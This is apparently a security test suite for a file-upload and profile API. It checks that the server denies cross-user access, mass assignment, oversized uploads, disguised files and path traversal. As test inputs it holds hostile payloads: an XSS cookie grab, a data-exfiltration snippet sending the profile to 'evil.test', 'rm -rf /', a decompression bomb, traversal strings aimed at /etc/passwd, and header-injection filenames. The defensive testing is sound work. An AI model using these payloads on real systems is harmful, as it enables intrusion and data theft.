/**
 * SECURITY.md items 32, 33 and 37-40: one user's credentials never reach another's records; the
 * profile refuses privileged fields; uploads are bounded, judged by their bytes and stored under
 * server names; downloads are attachments, typed, nosniff and checked on every request.
 */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { type Built, build } from '../helpers/build.ts';
import { download, filePart, photo, pngBomb } from '../helpers/uploads.ts';
import { bearer, tokenUser } from '../helpers/users.ts';

async function uploadFile(b: Built, token: string, data: Buffer | string, filename = 'a.bin') {
  const body = filePart(data, filename);
  return b.app.inject({
    method: 'POST',
    url: '/api/files',
    headers: { ...bearer(token), ...body.headers },
    payload: body.payload,
  });
}

async function uploadPhoto(b: Built, token: string, data: Buffer | string, filename = 'me.png') {
  const body = filePart(data, filename, 'image/png');
  return b.app.inject({
    method: 'PUT',
    url: '/api/users/me/photo',
    headers: { ...bearer(token), ...body.headers },
    payload: body.payload,
  });
}

const userIdOf = async (b: Built, token: string): Promise<string> =>
  (await b.app.inject({ method: 'GET', url: '/api/users/me', headers: bearer(token) })).json().user_id;

describe('32: cross-user access', () => {
  test("B's credentials on A's file, photo and user id get 403/404 for read, update and delete", async (t) => {
    const b = await build(t);
    const alice = await tokenUser(b);
    const bob = await tokenUser(b);
    const a = alice.tokens.access_token;
    const x = bob.tokens.access_token;
    const file = (await uploadFile(b, a, "alice's secret")).json().file;
    const photoUrl: string = (await uploadPhoto(b, a, await photo('png', 50, 50))).json().photo_url;
    const aliceId = await userIdOf(b, a);

    const attempts: [string, string, object?][] = [
      ['GET', `/api/files/${file.id}`],
      ['DELETE', `/api/files/${file.id}`],
      ['GET', photoUrl],
      ['PATCH', `/api/admin/users/${aliceId}`, { enabled: false }],
      ['DELETE', `/api/admin/users/${aliceId}`],
    ];
    for (const [method, url, payload] of attempts) {
      const res = await b.app.inject({
        method: method as 'GET',
        url,
        headers: bearer(x),
        ...(payload ? { payload } : {}),
      });
      assert.ok([403, 404].includes(res.statusCode), `${method} ${url} -> ${res.statusCode}`);
      assert.ok(!res.body.includes("alice's secret"));
    }
    const bobList = (await b.app.inject({ method: 'GET', url: '/api/files', headers: bearer(x) })).json();
    assert.deepEqual(bobList.files, [], "A's files never appear in B's list");

    // Alice still has everything.
    const dl = await download(b, `/api/files/${file.id}`, bearer(a));
    assert.equal(dl.final.body.toString(), "alice's secret");
    assert.equal((await download(b, photoUrl, bearer(a))).final.status, 200);
    const me = (await b.app.inject({ method: 'GET', url: '/api/users/me', headers: bearer(a) })).json();
    assert.equal(me.photo_url, photoUrl);
  });

  test('without credentials every user route is 401', async (t) => {
    const b = await build(t);
    for (const [method, url] of [
      ['GET', '/api/files'],
      ['GET', '/api/files/AAAAAAAAAAAAAAAAAAAAAA'],
      ['DELETE', '/api/files/AAAAAAAAAAAAAAAAAAAAAA'],
      ['GET', '/api/users/me/photo/abc/256'],
      ['DELETE', '/api/users/me'],
      ['GET', '/api/data'],
    ]) {
      const res = await b.app.inject({ method: method as 'GET', url });
      assert.equal(res.statusCode, 401, `${method} ${url}`);
    }
  });
});

describe('33: mass assignment on the profile', () => {
  for (const field of [
    'role',
    'groups',
    'email_verified',
    'stripe_customer_id',
    'plan',
    'user_id',
    'email',
    'enabled',
  ]) {
    test(`setting ${field} is a 400 and changes nothing`, async (t) => {
      const b = await build(t);
      const u = await tokenUser(b);
      const h = bearer(u.tokens.access_token);
      const before = (await b.app.inject({ method: 'GET', url: '/api/users/me', headers: h })).json();
      const value =
        field === 'groups'
          ? ['admin']
          : field === 'email_verified' || field === 'enabled'
            ? false
            : 'premium';
      const res = await b.app.inject({
        method: 'PUT',
        url: '/api/users/me',
        headers: h,
        payload: { name: 'Mallory', [field]: value },
      });
      assert.equal(res.statusCode, 400, res.body);
      assert.equal(res.json().error.code, 'VALIDATION_FAILED');
      assert.match(res.json().error.message, new RegExp(field));
      const after = (await b.app.inject({ method: 'GET', url: '/api/users/me', headers: h })).json();
      assert.deepEqual(after, before, 'not even the allowed field was applied');
    });
  }

  test('PATCH on the profile is not a route (405), so it cannot be a back door', async (t) => {
    const b = await build(t);
    const u = await tokenUser(b);
    const res = await b.app.inject({
      method: 'PATCH',
      url: '/api/users/me',
      headers: bearer(u.tokens.access_token),
      payload: { groups: ['admin'] },
    });
    assert.equal(res.statusCode, 405);
  });
});

describe('37: size limits and quotas', () => {
  test('a file over the size limit gets 413 FILE_TOO_LARGE and nothing is stored', async (t) => {
    const b = await build(t, { FILE_MAX_BYTES: '1000' });
    const u = await tokenUser(b);
    const res = await uploadFile(b, u.tokens.access_token, Buffer.alloc(1001, 1));
    assert.equal(res.statusCode, 413);
    assert.equal(res.json().error.code, 'FILE_TOO_LARGE');
    const exact = await uploadFile(b, u.tokens.access_token, Buffer.alloc(1000, 1));
    assert.equal(exact.statusCode, 201, 'exactly the limit is fine');
    const list = (
      await b.app.inject({ method: 'GET', url: '/api/files', headers: bearer(u.tokens.access_token) })
    ).json();
    assert.equal(list.files.length, 1);
    const userId = await userIdOf(b, u.tokens.access_token);
    assert.equal((await b.deps.blobs.list(`files/${userId}/`)).keys.length, 1);
  });

  test('the per-user quota is enforced, even for uploads racing each other', async (t) => {
    const b = await build(t, { FILE_QUOTA_BYTES: '10000' });
    const u = await tokenUser(b);
    const other = await tokenUser(b);
    assert.equal((await uploadFile(b, u.tokens.access_token, Buffer.alloc(6000, 1))).statusCode, 201);
    const over = await uploadFile(b, u.tokens.access_token, Buffer.alloc(4001, 2));
    assert.equal(over.statusCode, 413);
    assert.equal(over.json().error.code, 'QUOTA_EXCEEDED');
    const racing = await Promise.all(
      Array.from({ length: 6 }, () => uploadFile(b, u.tokens.access_token, Buffer.alloc(1500, 3))),
    );
    assert.equal(
      racing.filter((r) => r.statusCode === 201).length,
      2,
      '6000 + 2 x 1500 fits; a third does not',
    );
    assert.ok(racing.every((r) => r.statusCode === 201 || r.json().error.code === 'QUOTA_EXCEEDED'));
    const list = (
      await b.app.inject({ method: 'GET', url: '/api/files', headers: bearer(u.tokens.access_token) })
    ).json();
    assert.equal(list.usage.bytes, 9000);
    const userId = await userIdOf(b, u.tokens.access_token);
    assert.equal(
      (await b.deps.blobs.list(`files/${userId}/`)).keys.length,
      3,
      'refused uploads left no bytes',
    );
    assert.equal(
      (await uploadFile(b, other.tokens.access_token, Buffer.alloc(9000, 1))).statusCode,
      201,
      'per user',
    );
  });

  test('a photo over PHOTO_MAX_BYTES gets 413 and the profile keeps no photo', async (t) => {
    const b = await build(t, { PHOTO_MAX_BYTES: '2048' });
    const u = await tokenUser(b);
    const big = Buffer.concat([await photo('png', 10, 10), Buffer.alloc(4096)]);
    const res = await uploadPhoto(b, u.tokens.access_token, big);
    assert.equal(res.statusCode, 413);
    assert.equal(res.json().error.code, 'IMAGE_TOO_LARGE');
    const me = (
      await b.app.inject({ method: 'GET', url: '/api/users/me', headers: bearer(u.tokens.access_token) })
    ).json();
    assert.equal(me.photo_url, undefined);
  });
});

describe('38: content judged by its bytes', () => {
  const disguised: [string, string | Buffer][] = [
    ['HTML', '<!doctype html><html><body><script>alert(document.cookie)</script></body></html>'],
    ['SVG', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="4"/></svg>'],
    ['script', '#!/bin/sh\nrm -rf /\n'],
    [
      'JavaScript',
      'fetch("/api/users/me").then(r => r.text()).then(t => navigator.sendBeacon("//evil.test", t))',
    ],
    [
      'a PNG signature followed by HTML',
      Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), Buffer.from('<html><script>x</script>')]),
    ],
    ['a GIF', Buffer.from('R0lGODlhAQABAAAAACw=', 'base64')],
  ];
  for (const [what, data] of disguised) {
    test(`${what} named .png is refused as a photo`, async (t) => {
      const b = await build(t);
      const u = await tokenUser(b);
      const res = await uploadPhoto(b, u.tokens.access_token, data, 'avatar.png');
      assert.ok([400, 415].includes(res.statusCode), `${what}: ${res.statusCode} ${res.body}`);
      assert.ok(['UNSUPPORTED_FILE_TYPE', 'INVALID_IMAGE'].includes(res.json().error.code));
      const userId = await userIdOf(b, u.tokens.access_token);
      assert.deepEqual((await b.deps.blobs.list(`photos/${userId}/`)).keys, []);
    });
  }

  test('a decompression bomb (tiny file, 2.5 gigapixels declared) is refused before decoding', async (t) => {
    const b = await build(t);
    const u = await tokenUser(b);
    const bomb = await pngBomb(50_000, 50_000);
    assert.ok(bomb.length < 1000);
    const started = process.hrtime.bigint();
    const res = await uploadPhoto(b, u.tokens.access_token, bomb);
    assert.equal(res.statusCode, 413, res.body);
    assert.equal(res.json().error.code, 'IMAGE_TOO_LARGE');
    assert.ok(Number(process.hrtime.bigint() - started) / 1e6 < 5000, 'refused without decoding');
  });

  test('a truncated image is a 400, not a 500', async (t) => {
    const b = await build(t);
    const u = await tokenUser(b);
    const jpeg = await photo('jpeg', 400, 400);
    const res = await uploadPhoto(b, u.tokens.access_token, jpeg.subarray(0, 300));
    assert.equal(res.statusCode, 400, res.body);
    assert.equal(res.json().error.code, 'INVALID_IMAGE');
  });

  test('HTML stored as a file is served as an inert attachment, never as text/html', async (t) => {
    const b = await build(t);
    const u = await tokenUser(b);
    const { file } = (
      await uploadFile(b, u.tokens.access_token, '<html><script>alert(1)</script></html>', 'page.html')
    ).json();
    // The app's own answer (the bytes, or the redirect to them) carries nosniff and a deny-all CSP;
    // what is finally served is an attachment of an inert type either way.
    const { app, final } = await download(b, `/api/files/${file.id}`, bearer(u.tokens.access_token));
    assert.doesNotMatch(String(final.headers['content-type']), /html|svg|xml|javascript/);
    assert.match(String(final.headers['content-disposition']), /^attachment;/);
    assert.equal(app.headers['x-content-type-options'], 'nosniff');
    assert.match(String(app.headers['content-security-policy']), /default-src 'none'/);
  });
});

describe('39: names and ids that try to traverse', () => {
  const names = [
    '../../../etc/passwd',
    '..%2f..%2fetc%2fpasswd',
    '%2e%2e%2f%2e%2e%2fsecret',
    '..\\..\\windows\\win.ini',
    'evil\u0000.png',
    'a'.repeat(5000),
    '.htaccess',
    'report\r\nX-Injected: 1.pdf',
    'résumé \u202Efdp.exe',
  ];
  test('upload names are cleaned display text; storage keys are generated', async (t) => {
    const b = await build(t);
    const u = await tokenUser(b);
    const userId = await userIdOf(b, u.tokens.access_token);
    for (const name of names) {
      const res = await uploadFile(b, u.tokens.access_token, 'x', name);
      assert.equal(res.statusCode, 201, `${JSON.stringify(name).slice(0, 40)}: ${res.body}`);
      const { file } = res.json();
      // biome-ignore lint/suspicious/noControlCharactersInRegex: looking for control characters is the point.
      assert.ok(!/[/\\\u0000-\u001f\u202e]/.test(file.name), `cleaned: ${JSON.stringify(file.name)}`);
      assert.ok(!file.name.startsWith('.'));
      assert.ok([...file.name].length <= 200);
      const dl = await download(b, `/api/files/${file.id}`, bearer(u.tokens.access_token));
      const disposition = String(dl.final.headers['content-disposition']);
      assert.match(
        disposition,
        /^attachment; filename="[\x20-\x7e]*"; filename\*=UTF-8''[A-Za-z0-9%._~!-]*$/,
      );
      assert.equal(dl.final.headers['x-injected'], undefined);
      assert.equal(dl.app.headers['x-injected'], undefined);
    }
    const { keys } = await b.deps.blobs.list('');
    const fileKeys = keys.filter((k) => k.startsWith('files/'));
    assert.equal(fileKeys.length, names.length);
    for (const key of fileKeys) assert.match(key, new RegExp(`^files/${userId}/[A-Za-z0-9_-]{22}$`));
  });

  test('download and delete ids with traversal, NUL or great length get 400/404', async (t) => {
    const b = await build(t);
    const u = await tokenUser(b);
    await uploadFile(b, u.tokens.access_token, 'keep me');
    const ids = [
      '..%2F..%2Fetc%2Fpasswd',
      '%2e%2e%2f%2e%2e%2fdata%2fstore.db',
      '..%5C..%5Cwin.ini',
      '..',
      'abc%00def',
      'A'.repeat(5000),
      'AAAAAAAAAAAAAAAAAAAAAA',
    ];
    for (const id of ids) {
      for (const method of ['GET', 'DELETE'] as const) {
        const res = await b.app.inject({
          method,
          url: `/api/files/${id}`,
          headers: bearer(u.tokens.access_token),
        });
        assert.ok([400, 404].includes(res.statusCode), `${method} ${id.slice(0, 40)} -> ${res.statusCode}`);
      }
    }
    const raw = await b.app.inject({
      method: 'GET',
      url: '/api/files/../../etc/passwd',
      headers: bearer(u.tokens.access_token),
    });
    assert.ok([400, 404].includes(raw.statusCode));
    const list = (
      await b.app.inject({ method: 'GET', url: '/api/files', headers: bearer(u.tokens.access_token) })
    ).json();
    assert.equal(list.files.length, 1, 'nothing was deleted');
  });

  test('router refusals (overlong segment, broken escapes) keep the error shape and never echo the URL', async (t) => {
    const b = await build(t);
    for (const [url, status] of [
      [`/api/files/${'A'.repeat(5000)}`, 404],
      ['/api/files/%E0%A4%A', 400],
    ] as const) {
      const res = await b.app.inject({ method: 'GET', url });
      assert.equal(res.statusCode, status, `${url.slice(0, 30)}: ${res.body.slice(0, 200)}`);
      assert.ok(['NOT_FOUND', 'BAD_REQUEST'].includes(res.json().error.code));
      assert.ok(!res.body.includes('AAAA') && !res.body.includes('%E0'));
      assert.equal(res.headers['x-content-type-options'], 'nosniff');
    }
  });
});

describe('40: downloads', () => {
  test('every download checks the caller again: a revoked token or signed-out session cannot fetch', async (t) => {
    const b = await build(t);
    const u = await tokenUser(b);
    const { file } = (await uploadFile(b, u.tokens.access_token, 'private')).json();
    const url = `/api/files/${file.id}`;
    assert.equal((await download(b, url, bearer(u.tokens.access_token))).final.status, 200);
    const out = await b.app.inject({
      method: 'POST',
      url: '/api/auth/signout',
      headers: bearer(u.tokens.access_token),
      payload: {},
    });
    assert.ok(out.statusCode < 300, out.body);
    const after = await b.app.inject({ method: 'GET', url, headers: bearer(u.tokens.access_token) });
    assert.equal(after.statusCode, 401);
  });
});
